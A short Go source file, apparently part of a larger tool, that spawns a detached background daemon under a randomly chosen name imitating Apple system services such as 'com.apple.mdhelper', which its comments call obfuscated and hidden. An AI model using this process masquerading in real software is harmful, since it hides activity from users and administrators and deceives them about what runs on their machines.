package daemon

import (
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"syscall"
)

// System-service-looking prefixes for the daemon's visible name.
var namePrefixes = []string{
	"com.apple.syncservices",
	"com.apple.mdhelper",
	"com.apple.cfnetworkd",
	"com.apple.prefsync",
}

// GenerateDaemonName returns an obfuscated, system-looking process name.
func GenerateDaemonName() string {
	prefix := namePrefixes[rand.Intn(len(namePrefixes))]
	return fmt.Sprintf("%s.%04x", prefix, rand.Intn(0x10000))
}

// StartDaemon spawns the background daemon as a detached process.
// The daemon re-execs this binary with the hidden daemon command.
func StartDaemon(name string) error {
	executable, err := os.Executable()
	if err != nil {
		return err
	}
	return StartDaemonWithPath(executable, name)
}

// StartDaemonWithPath spawns the daemon from an explicit binary path.
func StartDaemonWithPath(binaryPath, name string) error {
	cmd := exec.Command(binaryPath, "daemon", "--name", name)

	// New session: detach from the terminal and the parent's lifetime.
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Setsid: true,
	}

	cmd.Stdin = nil
	cmd.Stdout = nil
	cmd.Stderr = nil

	return cmd.Start()
}
